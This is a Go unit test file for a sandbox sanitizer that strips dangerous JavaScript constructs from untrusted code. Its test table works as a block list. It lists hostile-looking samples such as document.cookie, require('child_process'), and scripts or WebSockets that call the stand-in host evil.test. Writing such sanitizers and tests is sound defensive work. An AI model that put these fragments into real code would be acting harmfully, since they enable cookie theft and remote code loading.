package sandbox

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSanitizeRemovesDangerousPatterns(t *testing.T) {
	tests := []struct {
		name    string
		code    string
		removed string
	}{
		{"eval call", `eval("1+1")`, "eval("},
		{"function constructor", `new Function("return 1")()`, "Function("},
		{"dynamic import", `import("fs")`, "import("},
		{"require call", `require("child_process")`, "require("},
		{"import scripts", `importScripts("https://evil.test/x.js")`, "importScripts("},
		{"document access", `document.cookie`, "document."},
		{"window access", `window.open("https://evil.test")`, "window."},
		{"navigator access", `navigator.sendBeacon("x")`, "navigator."},
		{"local storage", `localStorage.setItem("k", "v")`, "localStorage"},
		{"session storage", `sessionStorage.clear()`, "sessionStorage"},
		{"indexed db", `indexedDB.open("db")`, "indexedDB"},
		{"xhr", `new XMLHttpRequest()`, "XMLHttpRequest"},
		{"websocket", `new WebSocket("ws://evil.test")`, "WebSocket("},
		{"process access", `process.exit(1)`, "process."},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := Sanitize(tt.code)
			assert.NotContains(t, out, tt.removed)
			assert.Contains(t, out, marker)
		})
	}
}

func TestSanitizeIdempotent(t *testing.T) {
	inputs := []string{
		`eval("x"); document.write("y"); require("fs")`,
		`const a = 1 + 1;`,
		``,
		`// eval( inside a comment is still stripped`,
		Sanitize(`window.location.href = "https://evil.test"`),
	}

	for _, in := range inputs {
		once := Sanitize(in)
		assert.Equal(t, once, Sanitize(once))
	}
}

func TestSanitizeLeavesSafeCodeAlone(t *testing.T) {
	code := `
		const evaluate = (x) => x * 2;
		const result = Math.max(evaluate(21), 0);
		console.log(JSON.stringify({result}));
		return result;
	`
	assert.Equal(t, code, Sanitize(code))
}

func TestSanitizeReportNamesConstructs(t *testing.T) {
	out, warnings := SanitizeReport(`eval("x"); document.cookie`)
	assert.Contains(t, out, marker)
	assert.Equal(t, []string{
		"removed blocked construct: eval",
		"removed blocked construct: document",
	}, warnings)

	_, warnings = SanitizeReport(`const a = 1;`)
	assert.Empty(t, warnings)
}

func TestSanitizeIsTotal(t *testing.T) {
	// Arbitrary non-code text still comes back as a string.
	assert.NotPanics(t, func() {
		_ = Sanitize("\x00\xff not code at all ((((")
	})
}
